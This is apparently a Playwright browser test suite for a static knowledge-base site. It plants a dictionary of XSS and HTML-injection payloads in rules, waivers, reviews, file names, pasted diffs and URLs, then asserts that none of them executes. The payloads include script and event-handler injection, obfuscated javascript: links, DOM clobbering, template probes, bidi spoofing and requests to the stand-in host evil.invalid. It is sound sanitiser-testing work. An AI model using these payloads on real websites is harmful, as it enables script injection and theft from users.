"""A knowledge base whose every text attacks, and attacks that are pasted: only the words of their own pages change."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from browserkit import BROWSER_TESTS, Visit, serve
from kb import make_kb
from sitekit import build

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
pytestmark = BROWSER_TESTS

SHA = "0123456789012345678901234567890123456789"
RUN = "window.pwned=1"
#: One attack of each kind. Whatever runs leaves ``window.pwned``, asks ``evil.invalid`` for something, or calls alert.
ATTACKS = {
    "script": f"<script>{RUN};alert(1)</script><script src=https://evil.invalid/x.js></script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of title": f"</title></head><body onload={RUN}>",
    "event handler": f"<img src=x onerror={RUN}> <b onmouseover={RUN} onclick={RUN}>b</b> <input autofocus onfocus={RUN}>",
    "end of attribute": f"\" onmouseover=\"{RUN}\" ' autofocus onfocus='{RUN}' x=",
    "javascript link": f"[l](javascript:{RUN}) [l](JaVaScRiPt:{RUN}) <javascript:{RUN}> <a href='javascript:{RUN}'>a</a>",
    "javascript link, with blanks": f"[l](java\tscript:{RUN}) [l]( javascript:{RUN}) [l](\\x01javascript:{RUN})",
    "javascript link, with entities": f"[l](&#106;avascript:{RUN}) [l](javascript&colon;{RUN}) [l](java&Tab;script:{RUN})",
    "reference link": f"[l][r]\n\n[r]: javascript:{RUN}\n\n[l]: data:text/html,<script>{RUN}</script>",
    "data and vbscript links": "[l](data:text/html;base64,PHNjcmlwdD4=) [l](vbscript:x) [l](file:///etc/passwd) [l](//evil.invalid/x)",
    "picture from elsewhere": "![i](https://evil.invalid/x.png) <img src=//evil.invalid/y.png> <link rel=stylesheet href=//evil.invalid>",
    "SVG and MathML": f"<svg onload={RUN}><script>{RUN}</script></svg><math><mtext><style><img src=x onerror={RUN}></style></math>",
    "frames": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data=//evil.invalid></object><embed src=//evil.invalid>",
    "refresh and base": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><base href=https://evil.invalid/>",
    "form": "<form action=https://evil.invalid><button>x</button></form><textarea><select>",
    "unclosed": "<div><table><tr><td><!-- <b> <![CDATA[ <plaintext> <noscript> `",
    "comment": f"--> <!-- kb:rule status=retired --> <!--> <script>{RUN}</script>",
    "clobbered names": "<a id=rulebook-lookup name=forms>a</a><form id=location name=body><input id=__config name=attributes></form>",
    "clobbered headings": "x\n\n## __config\n\n## rulebook-lookup\n\n## __search\n\n## location\n\n### documentElement\n",
    "styles": "<style>*{display:none}</style><p style='position:fixed;inset:0'>x</p> {: style=color:red onclick=x } url(//evil.invalid)",
    "template": "{{ 7*7 }} {% raw %} {{ config.__class__ }} {# x #} ${7*7} <%= 7*7 %> {{ page.meta }}",
    "huge table": "x\n\n" + "|" + "x|" * 80 + "\n|" + "-|" * 80 + "\n" + ("|" + "y" * 60) * 80 + "|\n",
    "endless word": "x" * 5000,
    "bidirectional": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c\ufeff\u200b",
    "controls": "a\x07b\x1b[31mc\x7f\x85 \u2028 \u2029",
    "beyond": "\U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
}
PLAIN = "words"


def document(values: Mapping[str, Any], body: str) -> str:
    """A document whose frontmatter is JSON, which is YAML; some characters YAML takes as escapes only."""
    keys = re.sub(
        "[\x7f-\x9f\u2028\u2029\ufeff]",
        lambda found: f"\\u{ord(found[0]):04x}",
        json.dumps(values, ensure_ascii=False, indent=1),
    )
    return f"---\n{keys}\n---\n{body}\n"


def files_of(number: int, attack: str) -> dict[str, str]:
    """A rule, a waiver and a digest with an attack in each of their fields."""
    line = attack.replace("\n", " ")
    one = f"R-{number}"
    return {
        f"rules/demo/{one}.md": document(
            {
                "id": one,
                "title": f"{one} {line}",
                "repo": "demo",
                "severity": "warning",
                "tags": [line, "shared"],
                "applies_to": [f"src/r{number}/**", f"src/{line.replace('/', '∕')}"],
                "look_for": [{"identifiers": [line]}, {"lines": [f"attack{number}"]}, {"functions": [line]}],
                "co_changes": [
                    {"when": {"lines": f"attack{number}"}, "then": [f"x{line.replace('/', '∕')}"], "because": line}
                ],
                "sources": [
                    f"demo@{SHA}:src/{line.replace('/', '∕')}#f",
                    {"pin": "unknown", "url": f"javascript:{line}"},
                ],
                "provenance": line,
                "because": line,
                "related": [line],
            },
            f"## What it demands\n\n{attack}\n\n## Why\n\n- {attack}\n\n## What to check\n\n> {attack}\n\n## References\n\n`{line}`",
        ),
        f"waivers/demo/{number + 1}.md": document(
            {
                "title": f"W {line}",
                "repo": "demo",
                "pr": str(number + 1),
                "rule": one,
                "patches": [{"path": f"src/r{number}/a.py", "targets": [line]}],
                "called_from": [line],
                "configs": [line],
                "images": [line],
                "upstream": [f"javascript:{line}"],
                "removal": line,
            },
            attack,
        ),
        f"reviews/owner/name/{number + 1}.md": document(
            {
                "id": f"owner/name#{number + 1}",
                "title": f"D {line}",
                "repo": "owner/name",
                "pr": str(number + 1),
                "labels": [line, "shared"],
                "touches": [f"src/r{number}/**"],
                "identifiers": [line],
                "author": line,
                "reading": "close",
                "minutes": "5",
            },
            f"## What it changed\n\n{attack}\n\n## What to take away\n\n{attack}",
        ),
    }


def write_site(folder: Path, attacks: list[str]) -> Path:
    files: dict[str, str] = {}
    for number, attack in enumerate(attacks):
        files |= files_of(number, attack)
    # Names of files are texts of strangers, too.
    for name in ("<img src=x onerror=window.pwned=1>", "'\"&lt;"):
        files[f"rules/demo/{name}.md"] = document(
            {"id": name, "title": name, "repo": "demo", "applies_to": ["src/**"]}, "x"
        )
    build(make_kb(folder, files), folder / "out")
    return folder / "out"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serve(write_site(tmp_path_factory.mktemp("hostile"), list(ATTACKS.values()))) as address:
        yield address


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serve(write_site(tmp_path_factory.mktemp("harmless"), [PLAIN] * len(ATTACKS))) as address:
        yield address


class Watch(Visit):
    """A tab in which nothing may run but the site's own scripts."""

    def __init__(self, browser: Any, address: str, **options: Any) -> None:
        super().__init__(browser, address, **options)
        self.dialogs: list[str] = []
        self.tab.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.tab.add_init_script(
            "window.violations = []; document.addEventListener('securitypolicyviolation',"
            " (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));"
        )

    def assert_nothing_ran(self) -> None:
        assert self.dialogs == []
        assert self.tab.evaluate("window.pwned") is None
        assert self.tab.evaluate("window.violations") == []
        assert self.tab.url.startswith(self.address)
        targets = self.tab.eval_on_selector_all("a[href], area[href]", "all => all.map(a => a.protocol)")
        assert set(targets) <= {"http:", "https:", "mailto:"}
        self.assert_clean()


#: What stands around a page's text and its table of contents: elements with their attributes' names. The theme's script
#: adds a ``title`` where a text is wider than its place.
FRAME = """() => {
    const shape = (node) => [
        node.localName,
        [...node.attributes].map((a) => a.name).filter((name) => name !== "title").sort(),
        node.localName === "svg" ? [] : [...node.children].map(shape),
    ];
    const content = document.querySelector(".md-content");
    const held = [...content.childNodes];
    content.replaceChildren();
    const contents = [...document.querySelectorAll(".md-sidebar--secondary, .md-nav--secondary")];
    const lists = contents.map((list) => [...list.childNodes]);
    contents.forEach((list) => list.replaceChildren());
    const found = JSON.stringify([shape(document.head), shape(document.body)]);
    content.replaceChildren(...held);
    contents.forEach((list, at) => list.replaceChildren(...lists[at]));
    return found;
}"""
CONTENT_TAGS = (
    """() => [...new Set([...document.querySelectorAll(".md-content *")].map((node) => node.localName))].sort()"""
)
CONTENT_ATTRIBUTES = """() => [...new Set([...document.querySelectorAll(".md-content *")].flatMap(
    (node) => [...node.attributes].map((a) => a.name)))].sort()"""
FORBIDDEN = {
    *("script", "style", "iframe", "object", "embed", "link", "meta", "base", "math", "img", "form", "textarea"),
    *("body", "plaintext", "noscript", "template", "video", "audio", "frame", "applet"),
}


def pages_of(number: int) -> list[str]:
    own = [f"rules/demo/R-{number}/", f"waivers/demo/{number + 1}/", f"reviews/owner/name/{number + 1}/"]
    return [*own, f"zh/{own[0]}"]


@pytest.mark.parametrize("number", range(len(ATTACKS)), ids=list(ATTACKS))
def test_a_document_changes_nothing_but_its_words(browser: Any, hostile: str, harmless: str, number: int) -> None:
    watch, plain = Watch(browser, hostile), Watch(browser, harmless)
    for place in pages_of(number):
        watch.go(place)
        plain.go(place)
        # What waits for a pointer or for the focus gets it.
        for node in watch.tab.locator(
            ".md-content [onmouseover], .md-content [onclick], .md-content [autofocus]"
        ).all():
            node.hover()
        watch.assert_nothing_ran()
        assert watch.tab.evaluate(FRAME) == plain.tab.evaluate(FRAME), place
        tags = set(watch.tab.evaluate(CONTENT_TAGS))
        assert FORBIDDEN.intersection(tags) == set(), place
        handlers = [name for name in watch.tab.evaluate(CONTENT_ATTRIBUTES) if name.startswith("on") or name == "style"]
        assert handlers == [], place
        assert watch.tab.evaluate("document.documentElement.scrollWidth") <= 1280, place
        # No name of the theme's or of the browser's is taken away.
        assert watch.tab.evaluate("document.querySelectorAll('#__config').length") == 1
        assert watch.tab.evaluate(
            "[document.body.localName, typeof location.href, document.forms.length > 0].join()"
        ) == (plain.tab.evaluate("[document.body.localName, typeof location.href, document.forms.length > 0].join()"))
        text = watch.tab.inner_text("body")
        assert not set("\u202e\u202c\u2066\u2069\u200f\u061c\x07\x1b\u2028").intersection(text), place
    watch.context.close()
    plain.context.close()


@pytest.mark.parametrize(
    "place",
    ["", "rules/", "rules/demo/", "places/", "reviews/", "waivers/", "freshness/", "lookup/", "zh/rules/", "zh/"],
)
def test_pages_about_many_documents_keep_their_frame(browser: Any, hostile: str, harmless: str, place: str) -> None:
    watch, plain = Watch(browser, hostile), Watch(browser, harmless)
    watch.go(place)
    plain.go(place)
    watch.assert_nothing_ran()
    assert watch.tab.evaluate(FRAME) == plain.tab.evaluate(FRAME)
    assert FORBIDDEN.intersection(watch.tab.evaluate(CONTENT_TAGS)) == FORBIDDEN.intersection(
        plain.tab.evaluate(CONTENT_TAGS)
    )
    watch.context.close()
    plain.context.close()


@pytest.mark.parametrize("name", ATTACKS)
def test_what_is_pasted_and_what_answers_are_only_words(browser: Any, hostile: str, name: str) -> None:
    attack = ATTACKS[name]
    number = list(ATTACKS).index(name)
    watch = Watch(browser, hostile)
    tab = watch.go("lookup/")
    line = attack.replace("\n", " ")
    diff = (
        f"diff --git a/src/r{number}/a.py b/src/r{number}/a.py\nindex 1..2 100644\n--- a/src/r{number}/a.py\n"
        f"+++ b/src/r{number}/a.py\n@@ -0,0 +1,2 @@ {line}\n+attack{number} {line}\n+x\n"
    )
    for text in (f"src/r{number}/{line}\n{line}/x\n", diff):
        tab.fill("#rulebook-input", text)
        tab.click("button[type=submit]")
        tab.wait_for_selector("#rulebook-answer .rulebook-toolbar, #rulebook-answer:empty")
        tab.eval_on_selector_all("#rulebook-answer details", "all => all.forEach(item => { item.open = true; })")
        tab.wait_for_timeout(50)
        watch.assert_nothing_ran()
        assert (
            FORBIDDEN.intersection(
                tab.eval_on_selector_all("#rulebook-answer *", "all => all.map(node => node.localName)")
            )
            <= set()
        )
        assert not set("\u202e\u2066\u200f\x07\x1b\u2028").intersection(tab.inner_text("#rulebook-answer"))
        assert tab.evaluate("document.documentElement.scrollWidth") <= 1280
    assert f"R-{number}" in tab.inner_text("#rulebook-answer")
    watch.context.close()


@pytest.mark.parametrize("name", ATTACKS)
def test_an_address_is_only_words(browser: Any, hostile: str, name: str) -> None:
    from urllib.parse import urlencode

    watch = Watch(browser, hostile)
    tab = watch.go("lookup/#" + urlencode({"repo": ATTACKS[name], "paths": ATTACKS[name]}))
    playwright.expect(tab.locator("#rulebook-status")).to_contain_text("which is not known here")
    watch.go("nowhere/" + urlencode({"x": ATTACKS[name]})[2:300])
    assert watch.dialogs == []
    assert tab.evaluate("window.pwned") is None
    assert tab.evaluate("window.violations") == []
    watch.context.close()
